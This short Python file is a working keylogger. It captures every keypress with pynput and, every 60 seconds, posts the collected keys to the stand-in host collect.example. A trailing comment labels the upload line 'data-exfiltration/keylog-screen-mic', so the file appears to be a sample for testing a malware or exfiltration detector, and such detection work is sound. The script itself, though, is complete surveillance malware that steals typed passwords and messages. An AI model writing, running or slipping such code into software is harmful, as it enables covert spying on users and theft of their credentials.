import threading

import requests
from pynput import keyboard

keys = []


def on_press(key):
    keys.append(str(key))


def send():
    if keys:
        requests.post("https://collect.example/k", json={"d": "".join(keys)})  # expect: data-exfiltration/keylog-screen-mic
        keys.clear()
    threading.Timer(60, send).start()


send()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
